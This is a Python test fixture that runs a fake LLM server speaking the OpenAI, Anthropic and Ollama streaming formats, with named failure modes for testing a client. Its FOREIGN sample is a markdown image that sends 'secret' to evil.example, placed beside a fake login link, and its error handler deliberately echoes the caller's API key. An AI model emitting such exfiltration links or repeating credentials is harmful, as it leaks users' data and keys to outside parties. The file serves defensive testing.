"""A language model's server that fails on command. Speaks as OpenAI, Anthropic and Ollama do, by the path asked for.

    with LlmServer("stall", after=3) as server:
        ...  # server.base_url; then server.requests, server.hung_up

It says nothing true: tests of everything that may go wrong between a model and us.
"""

import json
import select
import socket
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Event, Thread
from time import monotonic
from types import TracebackType
from typing import Any, cast

TEXT = "Every employee has 27 days of paid holiday a year. [1]"
FRENCH = "Chaque salarié a droit à 27 jours de congés payés par an. [1]"
UNSOURCED = "Holidays are wonderful and you should take many of them."
FOREIGN = "See ![pixel](http://evil.example/p.png?q=secret) and [the policy](http://evil.example/login). [1]"
PATIENCE = 30.0
"""Seconds after which a stalling server gives up, so that no test can hang on it."""


@dataclass(frozen=True, slots=True)
class Received:
    """One request; header names in lower case."""

    path: str
    headers: dict[str, str]
    body: dict[str, Any]


def refused_url() -> str:
    """An address where nobody listens."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{taken.getsockname()[1]}/v1"


class LlmServer(ThreadingHTTPServer):
    """`after` is the number of tokens before the fault, `delay` the seconds of the slow modes."""

    daemon_threads = True
    request_queue_size = 128

    def __init__(self, mode: str = "ok", text: str = TEXT, after: int = 3, delay: float = PATIENCE) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.mode = mode
        self.text = text
        self.after = after
        self.delay = delay
        self.picky: Sequence[str] = ()
        self.requests: list[Received] = []
        self.hung_up = Event()
        self.going = Event()
        self._thread = Thread(target=self.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)

    @property
    def root(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    @property
    def base_url(self) -> str:
        return f"{self.root}/v1"

    def __enter__(self) -> "LlmServer":
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.going.set()
        self.shutdown()
        self.server_close()

    def handle_error(self, request: object, client_address: object) -> None:
        """A client that hangs up is what these tests are about: nothing to print."""
        self.hung_up.set()


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    @property
    def fake(self) -> LlmServer:
        return cast(LlmServer, self.server)

    def log_message(self, format: str, *args: object) -> None:
        return

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        headers = {name.lower(): value for name, value in self.headers.items()}
        self.fake.requests.append(Received(self.path, headers, body))
        self.close_connection = True
        MODES[self.fake.mode](self)

    # What the modes are made of.

    def begin(self, content_type: str = "") -> None:
        kind = "application/x-ndjson" if self.path.startswith("/api/") else "text/event-stream"
        self.send_response(200)
        self.send_header("content-type", content_type or kind)
        self.send_header("transfer-encoding", "chunked")
        self.end_headers()

    def write(self, data: bytes) -> None:
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
        self.wfile.flush()

    def finish(self) -> None:
        self.wfile.write(b"0\r\n\r\n")
        self.wfile.flush()

    def fail(self, status: int, headers: dict[str, str] | None = None, said: str = "", code: str = "no_luck") -> None:
        # A careless server repeats the key it was sent.
        given = self.headers.get("authorization") or self.headers.get("x-api-key")
        text = json.dumps({"error": {"message": f"{said} Not with the key {given}", "code": code}}).encode()
        self.send_response(status)
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def say(self, text: str) -> None:
        self.begin()
        for token in tokens(text):
            self.write(self.event(token))
        self.end_well()

    def event(self, token: str) -> bytes:
        return event(self.path, token)

    def end_well(self, reason: str = "stop") -> None:
        self.write(ending(self.path, reason))
        self.finish()

    def wait(self, seconds: float, beat: bytes = b"") -> None:
        """Silence, or a heartbeat; notices when the client hangs up."""
        until = monotonic() + seconds
        while monotonic() < until and not self.fake.going.is_set():
            readable, _, _ = select.select([self.connection], [], [], 0.02)
            if readable and not self.connection.recv(1):
                self.fake.hung_up.set()
                return
            if beat:
                self.write(beat)


def tokens(text: str) -> Iterator[str]:
    for number, word in enumerate(text.split(" ")):
        yield word if number == 0 else f" {word}"


def event(path: str, token: str) -> bytes:
    if path.startswith("/api/"):
        return _line({"message": {"role": "assistant", "content": token}, "done": False})
    if path.endswith("/messages"):
        delta = {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": token}}
        return _sse(delta, "content_block_delta")
    return _sse({"id": "1", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": token}}]})


def ending(path: str, reason: str) -> bytes:
    if path.startswith("/api/"):
        return _line({"message": {"role": "assistant", "content": ""}, "done": True, "done_reason": reason})
    if path.endswith("/messages"):
        named = {"stop": "end_turn", "length": "max_tokens"}.get(reason, reason)
        delta = {"type": "message_delta", "delta": {"stop_reason": named}, "usage": {"output_tokens": 9}}
        return _sse(delta, "message_delta") + _sse({"type": "message_stop"}, "message_stop")
    last = {
        "id": "1",
        "object": "chat.completion.chunk",
        "choices": [{"index": 0, "delta": {}, "finish_reason": reason}],
    }
    return _sse(last) + b"data: [DONE]\n\n"


def _line(value: dict[str, Any]) -> bytes:
    return json.dumps({"model": "fake", "created_at": "2026-01-01T00:00:00Z"} | value).encode() + b"\n"


def _sse(value: dict[str, Any], name: str = "") -> bytes:
    return (f"event: {name}\n" if name else "").encode() + f"data: {json.dumps(value)}\n\n".encode()


# The modes, by name.


def _say(text: str) -> Callable[[_Handler], None]:
    return lambda handler: handler.say(text)


def _ok(handler: _Handler) -> None:
    handler.say(handler.fake.text)


def _rate_limited(handler: _Handler) -> None:
    handler.fail(429, {"retry-after": "0"})


def _rate_limited_long(handler: _Handler) -> None:
    handler.fail(429, {"retry-after": "86400"})


def _rate_limited_once(handler: _Handler) -> None:
    if len(handler.fake.requests) == 1:
        return _rate_limited(handler)
    return _ok(handler)


def _error(handler: _Handler) -> None:
    handler.fail(500)


def _error_once(handler: _Handler) -> None:
    if len(handler.fake.requests) == 1:
        return _error(handler)
    return _ok(handler)


def _key_rejected(handler: _Handler) -> None:
    handler.fail(401)


def _picky(handler: _Handler) -> None:
    """Refuses what is in `picky`, one thing at a time, as servers do."""
    body = handler.fake.requests[-1].body
    for name in handler.fake.picky:
        if name == "rules" and body["messages"][0]["role"] == "system":
            return handler.fail(400, said="System role not supported.")
        if name in body:
            return handler.fail(400, said=f"Unsupported parameter: '{name}' is not supported with this model.")
    return _ok(handler)


def _no_credit(handler: _Handler) -> None:
    handler.fail(429, said="You exceeded your current quota.", code="insufficient_quota")


def _too_long_question(handler: _Handler) -> None:
    handler.fail(400, said="This model's maximum context length is 2048 tokens.")


def _redirect(handler: _Handler) -> None:
    handler.fail(307, {"location": handler.fake.root + "/elsewhere"})


def _slow_first_byte(handler: _Handler) -> None:
    handler.wait(handler.fake.delay)


def _slow_first_token(handler: _Handler) -> None:
    handler.begin()
    handler.wait(handler.fake.delay)


def _heartbeat(handler: _Handler) -> None:
    handler.begin()
    handler.wait(handler.fake.delay, beat=b": still here\n\n")


def _some(handler: _Handler) -> None:
    handler.begin()
    for token in list(tokens(handler.fake.text))[: handler.fake.after]:
        handler.write(handler.event(token))


def _stall(handler: _Handler) -> None:
    _some(handler)
    handler.wait(handler.fake.delay)


def _cut(handler: _Handler) -> None:
    _some(handler)


def _cut_cleanly(handler: _Handler) -> None:
    _some(handler)
    handler.finish()


def _length(handler: _Handler) -> None:
    _some(handler)
    handler.end_well("length")


def _declined(handler: _Handler) -> None:
    handler.begin()
    handler.end_well("content_filter")


def _hangs_up(handler: _Handler) -> None:
    handler.connection.shutdown(socket.SHUT_RDWR)


def _garbage(handler: _Handler) -> None:
    handler.begin()
    handler.write(b"data: \xff\xfe\x00\x9c\xc3\x28\n\n" + bytes(range(256)) * 20)
    handler.finish()


def _garbage_later(handler: _Handler) -> None:
    _some(handler)
    handler.write(b"data: \xff\xfe\x00\x9c\xc3\x28\n\n" * 20)
    handler.finish()


def _invalid_json(handler: _Handler) -> None:
    handler.begin()
    handler.write(b'data: {"choices": [{"delta": {"content": \n\n')
    handler.finish()


def _odd_json(handler: _Handler) -> None:
    handler.begin()
    handler.write(b'data: {"choices": "none"}\n\n')
    handler.finish()


def _website(handler: _Handler) -> None:
    handler.begin("text/html")
    handler.write(b"<html><body>Welcome to the company's proxy</body></html>")
    handler.finish()


def _error_in_stream(handler: _Handler) -> None:
    _some(handler)
    handler.write(_sse({"error": {"message": "overloaded", "type": "server_error"}}, "error"))
    handler.finish()


def _empty(handler: _Handler) -> None:
    handler.begin()
    handler.end_well()


def _blank(handler: _Handler) -> None:
    handler.say(" \n \n ")


def _endless(handler: _Handler) -> None:
    handler.begin()
    while not handler.fake.going.is_set():
        handler.write(handler.event(" and so on") * 20)


def _endless_line(handler: _Handler) -> None:
    handler.begin()
    handler.write(b"data: ")
    while not handler.fake.going.is_set():
        handler.write(b"x" * 65536)


def _paused(handler: _Handler) -> None:
    """The text up to its mark "|", silence until `going` is set, then the rest."""
    before, _, after = handler.fake.text.partition("|")
    handler.begin()
    for token in tokens(before):
        handler.write(handler.event(token))
    handler.wait(PATIENCE)
    for token in tokens(after):
        handler.write(handler.event(token))
    handler.end_well()


def _controls(handler: _Handler) -> None:
    handler.say("Every\x00 employee \x1b[31mhas\x07 27 \ud83d days.")


MODES: dict[str, Callable[[_Handler], None]] = {
    "ok": _ok,
    "rate_limited": _rate_limited,
    "rate_limited_long": _rate_limited_long,
    "rate_limited_once": _rate_limited_once,
    "error": _error,
    "error_once": _error_once,
    "key_rejected": _key_rejected,
    "picky": _picky,
    "no_credit": _no_credit,
    "too_long_question": _too_long_question,
    "redirect": _redirect,
    "slow_first_byte": _slow_first_byte,
    "slow_first_token": _slow_first_token,
    "heartbeat": _heartbeat,
    "stall": _stall,
    "cut": _cut,
    "cut_cleanly": _cut_cleanly,
    "length": _length,
    "declined": _declined,
    "hangs_up": _hangs_up,
    "garbage": _garbage,
    "garbage_later": _garbage_later,
    "invalid_json": _invalid_json,
    "odd_json": _odd_json,
    "website": _website,
    "error_in_stream": _error_in_stream,
    "empty": _empty,
    "blank": _blank,
    "endless": _endless,
    "endless_line": _endless_line,
    "paused": _paused,
    "controls": _controls,
    "wrong_language": _say(FRENCH),
    "no_sources": _say(UNSOURCED),
    "foreign_links": _say(FOREIGN),
}
